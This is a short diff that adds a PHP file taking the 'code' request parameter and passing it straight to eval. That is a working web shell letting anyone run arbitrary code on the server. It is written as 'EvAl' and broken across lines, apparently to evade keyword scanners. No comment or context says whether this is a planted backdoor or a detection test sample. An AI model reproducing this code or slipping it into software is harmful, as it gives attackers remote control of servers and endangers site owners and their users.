@@ -1,0 +1,6 @@
+<?php
+$code = $_REQUEST
+    ['code'];
+EvAl(
+    $code
+);
